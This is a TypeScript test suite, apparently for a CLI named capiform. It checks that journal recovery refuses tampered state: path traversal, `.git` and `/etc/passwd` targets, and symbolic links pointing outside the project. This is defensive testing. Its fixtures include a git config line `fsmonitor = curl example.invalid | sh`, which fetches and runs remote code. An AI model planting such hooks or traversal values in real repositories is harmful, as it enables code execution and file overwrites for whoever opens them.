/**
 * `render` first finishes or rolls back a write an earlier run left in `.capiform/` (the journal, `staging/`,
 * `old/`). A pull request can commit that folder, so recovery trusts none of it: a journal names only capiform's tree
 * folders and capi.lock.yaml, and recovery renames and removes only real folders and files, never through a
 * symbolic link. Anything else is refused with exit 2 before anything changes, inside the project or beside it.
 */
import { cpSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { runCli, type CliResult } from '../helpers/cli.js';
import { snapshotDir } from '../helpers/dir-snapshot.js';
import { fixtureProject } from '../helpers/pipeline-fixtures.js';
import { tempDir, writeFiles } from '../helpers/testdir.js';

let rendered = '';
let env: NodeJS.ProcessEnv = {};

beforeAll(async () => {
  env = { PATH: process.env.PATH, HOME: process.env.HOME, CAPIFORM_CACHE_DIR: tempDir() };
  rendered = fixtureProject({}, 'plain');
  const r = await runCli(['render'], { cwd: rendered, env });
  expect(r.stderr).toBe('');
  expect(r.code).toBe(0);
}, 120_000);

/** A copy of the rendered project at `<base>/project`, with a sibling `<base>/outside` holding files of its own. */
function layout(): { base: string; project: string; outside: string } {
  const base = tempDir();
  const project = join(base, 'project');
  const outside = join(base, 'outside');
  cpSync(rendered, project, { recursive: true });
  writeFiles(outside, { 'x': 'not capiform\'s\n', 'providers/kept.yaml': 'kind: Kept\n', 'credentials.json': '{"token":"s3cret"}\n' });
  return { base, project, outside };
}

const journal = (j: unknown): string => `${JSON.stringify(j)}\n`;

/** Runs `render` and checks it refused with exit 2, without a stack, changing nothing anywhere under `base`. */
async function refused(base: string, project: string): Promise<CliResult> {
  const before = snapshotDir(base);
  const r = await runCli(['render'], { cwd: project, env });
  expect(r.stderr).toMatch(/^Error: /);
  expect(r.stderr).not.toMatch(/\n\s+at /);
  expect(r.code).toBe(2);
  expect(snapshotDir(base)).toEqual(before);
  return r;
}

describe('T1: nothing outside the project is read, written, moved or deleted — journal recovery', () => {
  it('a swap entry naming a folder beside the project is refused; the folder stays', async () => {
    const { base, project } = layout();
    writeFiles(project, { '.capiform/journal.json': journal({ version: 2, phase: 'swap', dirs: [{ name: '../outside', staged: false }] }) });
    const r = await refused(base, project);
    expect(r.stderr).toContain('.capiform/journal.json names the folder "../outside" (dirs[0]), which is not one of capiform\'s tree folders');
    expect(r.stderr).toContain('fix: a journal only names capiform\'s tree folders (providers, clusters, clusterclasses, argocd, targets) and capi.lock.yaml');
  });

  it('a swap entry naming .git is refused; the repository\'s git folder stays', async () => {
    const { base, project } = layout();
    writeFiles(project, {
      '.git/HEAD': 'ref: refs/heads/main\n',
      '.capiform/journal.json': journal({ version: 2, phase: 'swap', dirs: [{ name: '.git', staged: true }] }),
      '.capiform/staging/.git/config': '[core]\n\tfsmonitor = curl example.invalid | sh\n',
    });
    const r = await refused(base, project);
    expect(r.stderr).toContain('names the folder ".git" (dirs[0])');
  });

  it('a tree folder spelled with a path inside it is refused', async () => {
    const { base, project } = layout();
    writeFiles(project, { '.capiform/journal.json': journal({ version: 2, phase: 'swap', dirs: [{ name: 'providers/../../outside', staged: false }] }) });
    expect((await refused(base, project)).stderr).toContain('names the folder "providers/../../outside"');
  });

  it.each([['../outside/x'], ['capi.config.ts'], ['/etc/passwd']])('a lock entry of %s is refused; that file is not replaced', async (lock) => {
    const { base, project } = layout();
    writeFiles(project, {
      '.capiform/journal.json': journal({ version: 2, phase: 'swap', dirs: [], lock }),
      [`.capiform/staging/${lock.replace(/^\//, '')}`]: 'replaced\n',
    });
    const r = await refused(base, project);
    expect(r.stderr).toContain(`names "${lock}" as the lock file, which is not capi.lock.yaml`);
  });

  it('a journal of another shape is refused, not guessed at', async () => {
    const { base, project } = layout();
    writeFiles(project, { '.capiform/journal.json': journal({ version: 2, phase: 'swap', dirs: 'providers' }) });
    expect((await refused(base, project)).stderr).toContain('.capiform/journal.json has no list of folders (`dirs`)');
  });

  it('.capiform/owned.json naming files outside the tree is refused; they are not removed', async () => {
    const { base, project } = layout();
    writeFiles(project, { '.capiform/owned.json': JSON.stringify({ files: ['providers/../../outside/x', 'clusters/team-a/dev-1/cluster.yaml'] }) });
    const r = await refused(base, project);
    expect(r.stderr).toContain('.capiform/owned.json names "providers/../../outside/x", which is not a relative path without `.`, `..` or empty segments');
  });
});

describe('T1: nothing outside the project is read, written, moved or deleted — recovery never follows a symbolic link', () => {
  it('a .capiform that links out of the project is refused; the folder it names is untouched', async () => {
    const { base, project, outside } = layout();
    writeFiles(outside, {
      'state/journal.json': journal({ version: 2, phase: 'swap', dirs: [{ name: 'providers', staged: true }] }),
      'state/staging/providers/evil.yaml': 'kind: Evil\n',
    });
    rmSync(join(project, '.capiform'), { recursive: true });
    symlinkSync(join(outside, 'state'), join(project, '.capiform'));
    const r = await refused(base, project);
    expect(r.stderr).toContain('.capiform is a symbolic link');
  });

  it('a .capiform/staging that links out of the project is refused; nothing is moved in or out', async () => {
    const { base, project, outside } = layout();
    writeFiles(project, { '.capiform/journal.json': journal({ version: 2, phase: 'swap', dirs: [{ name: 'providers', staged: true }] }) });
    symlinkSync(outside, join(project, '.capiform/staging'));
    const r = await refused(base, project);
    expect(r.stderr).toContain('cannot recover the interrupted write: .capiform/staging is a symbolic link, where capiform keeps a folder');
  });

  it('a staged tree folder that is a link is refused (it would become the tree)', async () => {
    const { base, project, outside } = layout();
    writeFiles(project, { '.capiform/journal.json': journal({ version: 2, phase: 'swap', dirs: [{ name: 'providers', staged: true }] }) });
    mkdirSync(join(project, '.capiform/staging'), { recursive: true });
    symlinkSync(join(outside, 'providers'), join(project, '.capiform/staging/providers'));
    expect((await refused(base, project)).stderr).toContain('.capiform/staging/providers is a symbolic link, where capiform keeps a folder');
  });

  it('a tree folder that is a link is refused, not retired', async () => {
    const { base, project, outside } = layout();
    rmSync(join(project, 'providers'), { recursive: true });
    symlinkSync(join(outside, 'providers'), join(project, 'providers'));
    writeFiles(project, { '.capiform/journal.json': journal({ version: 2, phase: 'swap', dirs: [{ name: 'providers', staged: false }] }) });
    expect((await refused(base, project)).stderr).toContain('providers is a symbolic link, where capiform keeps a folder');
  });

  it('a staged lock that links to a file elsewhere is refused (it would become capi.lock.yaml)', async () => {
    const { base, project, outside } = layout();
    writeFiles(project, { '.capiform/journal.json': journal({ version: 2, phase: 'swap', dirs: [], lock: 'capi.lock.yaml' }) });
    mkdirSync(join(project, '.capiform/staging'), { recursive: true });
    symlinkSync(join(outside, 'credentials.json'), join(project, '.capiform/staging/capi.lock.yaml'));
    expect((await refused(base, project)).stderr).toContain('.capiform/staging/capi.lock.yaml is a symbolic link, where capiform keeps a file');
  });

  it('a journal that links to a file elsewhere is not read', async () => {
    const { base, project, outside } = layout();
    writeFileSync(join(outside, 'journal.json'), journal({ version: 2, phase: 'swap', dirs: [{ name: 'providers', staged: false }] }));
    symlinkSync(join(outside, 'journal.json'), join(project, '.capiform/journal.json'));
    expect((await refused(base, project)).stderr).toContain('.capiform/journal.json is a symbolic link, where capiform keeps a file of its own');
  });
});

describe('T5: never hang — locks and journals of the wrong kind', () => {
  it('a writer.lock that is a dangling link is refused at once, not waited on', async () => {
    const { base, project } = layout();
    symlinkSync(join(base, 'nowhere'), join(project, '.capiform/writer.lock'));
    const started = Date.now();
    const before = snapshotDir(base);
    const r = await runCli(['render', '--lock-timeout', '30'], { cwd: project, env });
    expect(Date.now() - started).toBeLessThan(20_000);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`Error: ${join(project, '.capiform/writer.lock')} is a symbolic link, where capiform keeps the capi.lock.yaml/tree lock`);
    expect(r.stderr).toContain(`fix: remove ${join(project, '.capiform/writer.lock')} and run the command again`);
    expect(snapshotDir(base)).toEqual(before);
  }, 60_000);

  it('a writer.lock that is a folder is exit 2 naming it, not a crash', async () => {
    const { base, project } = layout();
    mkdirSync(join(project, '.capiform/writer.lock'));
    const r = await refused(base, project);
    expect(r.stderr).toContain('.capiform/writer.lock is a folder, where capiform keeps the capi.lock.yaml/tree lock');
  });

  it('a journal.json that is a folder is exit 2 naming it, not a crash', async () => {
    const { base, project } = layout();
    mkdirSync(join(project, '.capiform/journal.json'));
    const r = await refused(base, project);
    expect(r.stderr).toContain('Error: .capiform/journal.json is a folder, where capiform keeps a file of its own');
    expect(r.stderr).toContain('fix: remove');
  });
});
